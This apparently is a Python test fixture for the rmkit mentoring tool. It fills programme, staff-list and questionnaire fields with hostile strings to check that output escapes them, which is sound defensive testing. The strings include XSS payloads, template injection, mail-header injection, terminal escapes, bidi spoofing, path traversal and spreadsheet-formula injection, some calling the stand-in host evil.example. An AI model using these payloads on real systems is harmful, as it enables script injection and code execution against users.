"""Twelve people, an organisation and a questionnaire whose every word tries to be more than a word.

The same maker is used for every view that rmkit has: what looks like script, markup, a formula, a
header, a colour or a command must come out as the words that it is. Each hostile text begins with
a mark of its own, so that a test can tell that it was shown, and calls `PWNED` where it would run.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import TYPE_CHECKING

if TYPE_CHECKING:
    from rmkit.instruments.model import Instrument
    from rmkit.programme.programme import Programme

__all__ = [
    "EVIL",
    "FORMULAS",
    "HOST",
    "PEOPLE",
    "TEXTS",
    "make_hostile",
    "marks_of",
    "own_instrument",
]

HOST = "evil.example"
EVIL = f"http://{HOST}/x"

TEXTS: dict[str, str] = {
    "Zscript": "<script>window.PWNED=1</script>",
    "Zimage": f"<img src=x onerror=window.PWNED=1><img src={EVIL}.png>",
    "Zquote": "\"'><svg/onload=window.PWNED=1><a href=javascript:window.PWNED=1>a</a>",
    "Zclose": "</script></style></title></textarea><!-- ]]><script>window.PWNED=1</script>",
    "Zmark": f"[a](javascript:window.PWNED=1) ![p]({EVIL}.png) **b** <{EVIL}> `c` # d",
    "Zlatex": r"$\href{javascript:window.PWNED=1}{x}$ \[\frac{1}{2}\] $$y$$ \(z\)",
    "Zmaths": r"$\frac{$ $\notacommand{x}$ $A_{2}$ $",
    "Zjinja": "{{ 7*7 }} {% for x in y %} {{ ''.__class__ }} {# c",
    "Zrich": f"[red]x[/red] [link={EVIL}]y[/link] [/] [@click=app.bell]z[/]",
    "Zsigns": "&lt;b&gt; &#60;i&#62; &amp;",
    "Zpaper": f'<b>x</b><a href="{EVIL}">l</a><img src="file:///etc/passwd"/><para><onDraw/>',
    "Zheader": f"Eve\r\nBcc: all@{HOST}\r\n\r\nbody",
    "Zcard": "Eve\nEND:VCARD\nBEGIN:VCALENDAR;X=1",
    "Zterm": f"\x1b]8;;{EVIL}\x1b\\link\x1b[31mred\x07\x9b2J\x08",
    "Zbidi": "a\u202egpj.exe\u2066b\u2069\u200b\u00ad\ufeff",
    "Zright": "\u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627",
    "Zfile": "../../CON/NUL.txt. . ",
    "Zjson": '\u2028"}\\u003c</script>',
}  # fmt: skip
"""By their marks."""

FORMULAS = (
    f'=HYPERLINK("{EVIL}","x")', "@SUM(1+1)*cmd|' /C calc'!A0", "+1+1", "-2+3", "\uff1d1+1",
    "=[evil.xlsx]S!A1", "\t=1+1", "=cmd|'/C calc'!A0", '=IMPORTXML(CONCAT("http://evil.example"))',
    "=1+1", "\uff0b1+1", "\uff201+1",
)  # fmt: skip
"""No mark may stand before these: they are dangerous from the first letter on."""


def _text(*marks: str) -> str:
    return " ".join(f"{mark} {TEXTS[mark]}" for mark in marks)


def marks_of(*marks: str) -> str:
    """Give hostile texts as they were typed, one after the other."""
    return _text(*marks)


_PAIRED = list(TEXTS)
PEOPLE: tuple[dict[str, str], ...] = tuple(
    {
        "email": f"person{i}@example.org",
        "name": f"{FORMULAS[i]} Zname{i} {_text(_PAIRED[i])}"[:190],
        "department": f"{FORMULAS[i]} Zdept{i % 4} {_text(_PAIRED[12 + i % 4])}",
        "site": _text(_PAIRED[(i + 1) % len(_PAIRED)]),
        "organisation": _text(_PAIRED[(i + 5) % len(_PAIRED)]),
        "job_title": _text(_PAIRED[(i + 7) % len(_PAIRED)]),
        "role": "mentor" if i % 2 == 0 else "mentee",
    }
    for i in range(12)
)


def make_hostile(folder: Path, *, until: str = "") -> Programme:
    """Make the programme, up to confirmed pairs, in a file of this folder.

    `until="pairing"` stops before pairs are proposed.
    """
    from rmkit.instruments.entries import Entry
    from rmkit.programme.coordinator import Coordinator
    from rmkit.programme.objective import Objective
    from rmkit.programme.programme import Programme

    programme = Programme.create(
        folder / "hostile.rmkit",
        name=_text("Zscript", "Zrich", "Zheader", "Zterm", "Zlatex"),
        organisation=_text("Zquote", "Zpaper", "Zcard", "Zbidi", "Zmaths"),
    )
    programme.set_coordinator(
        Coordinator(name=_text("Zheader", "Zimage", "Zlatex"), email="rosa@example.org")
    )
    programme.objective.set(
        Objective(
            sentence=_text("Zclose", "Zmark", "Zjinja", "Zsigns", "Zterm"),
            focus=f"=1+1 {_text('Zimage', 'Zmaths')}",
            reason=_text("Zjson", "Zpaper", "Zlatex"),
        )
    )
    own = [
        Entry.model_validate({"id": f"own_{n}", "text": _text(mark)})
        for n, mark in enumerate(("Zlatex", "Zmaths", "Zscript", "Zpaper", "Zrich", "Zfile"))
    ]
    programme.candidates.choose("extended", {"competences": own[:3], "tools": own[3:]})
    programme.candidates.add(_staff_list(folder / "staff.csv"), instrument="staff_list")
    for number, person in enumerate(PEOPLE):
        programme.candidates.answer(_answers(programme, number, person), source="form")
    if until != "pairing":
        programme.profiles.read()
        programme.pairing.solve()
        programme.pairing.open_unmatched()
        programme.pairing.open_flagged()
        programme.pairing.confirm(by=_text("Zquote", "Zterm", "Zrich"))
    return programme


def _staff_list(path: Path) -> Path:
    columns = ("name", "email", "organisation", "site", "department", "job_title")
    with path.open("w", encoding="utf-8", newline="") as file:
        writer = csv.writer(file, quoting=csv.QUOTE_ALL)
        writer.writerow(columns)
        writer.writerows([person[name] for name in columns] for person in PEOPLE)
    return path


def _answers(programme: Programme, number: int, person: dict[str, str]) -> dict[str, object]:
    fields = programme.candidates.questionnaire.fields
    marks = list(TEXTS)
    given: dict[str, object] = {name: person[name] for name in ("name", "email", "role")}
    for at, field in enumerate(fields):
        if field.key in given or field.item.format == "url":
            continue
        if field.is_rating:
            level = (3 + (at + number) % 3) if person["role"] == "mentor" else 1 + (at + number) % 2
            given[field.key] = str(level + 2 if field.key.startswith("target_") else level)[:1]
            given[field.key] = str(min(int(str(given[field.key])), 5))
        elif field.kind in {"text", "long_text"}:
            text = f"{FORMULAS[number]} Zanswer{number} {_text(marks[(at + number) % len(marks)])}"
            given[field.key] = text[:190]
    return given


def own_instrument(folder: Path) -> Instrument:
    """Read a questionnaire of one's own whose texts are hostile, from its YAML file."""
    from rmkit.instruments import read_instrument

    items = [
        {"id": f"q{n}", "kind": kind, "privacy": "none", "help": _text("Zquote", "Zmark"),
         "text": f"{FORMULAS[n]} {_text(mark)}"}
        for n, (mark, kind) in enumerate(
            zip(list(TEXTS)[:8], ["text", "long_text", "number", "date"] * 2, strict=True)
        )
    ]  # fmt: skip
    options = [
        {"value": f"o{n}", "label": f"{FORMULAS[n]} {_text(mark)}"}
        for n, mark in enumerate(list(TEXTS)[8:12])
    ]
    items += [
        {"id": "one", "kind": "choice", "privacy": "none", "text": _text("Zjson"),
         "options": options},
        {"id": "many", "kind": "multiple_choice", "privacy": "none", "text": _text("Zterm"),
         "options": options},
        {"id": "grid", "kind": "matrix", "privacy": "none", "text": _text("Zclose"),
         "scale": "level", "asks": [{"id": "now", "text": _text("Zrich")}],
         "rows": [{"id": "r1", "text": _text("Zlatex")}, {"id": "r2", "text": _text("Zfile")}]},
    ]  # fmt: skip
    definition = {
        "id": "hostile", "version": 1, "source": "made for tests",
        "title": f"=1+1 [x]:*?/\\' {_text('Zscript')}",
        "purpose": _text("Zimage", "Zpaper"),
        "scales": {"level": {"options": [
            {"value": n, "label": f"{n} {_text(mark)}"} for n, mark in enumerate(list(TEXTS)[:3])
        ]}},
        "sections": [{"id": "all", "title": _text("Zquote", "Zlatex"), "items": items}],
    }  # fmt: skip
    path = folder / "hostile.yaml"
    path.write_text(json.dumps(definition), encoding="utf-8")  # what is JSON is YAML too
    return read_instrument(path)
